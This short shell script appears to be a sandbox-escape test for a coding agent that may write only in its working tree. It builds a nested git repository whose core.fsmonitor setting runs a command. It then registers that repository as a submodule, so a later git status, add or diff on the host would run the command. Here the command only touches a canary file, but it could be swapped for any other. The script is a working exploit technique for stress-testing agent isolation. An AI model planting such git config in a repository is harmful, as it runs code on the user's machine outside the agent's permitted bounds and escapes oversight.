#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: nested repo in a subdirectory; host status/add/diff recurses into it as a submodule and reads ITS config
mkdir -p sub && cd sub && git init -q . && echo 1 > f && git add f && git -c user.name=a -c user.email=a@a commit -qm 1 && git config core.fsmonitor "$SC; false" && echo 2 > f
cd ..; git -c core.fsmonitor=false add sub 2>/dev/null; printf '[submodule "sub"]\n\tpath = sub\n\turl = ./x\n\tignore = none\n' > .gitmodules
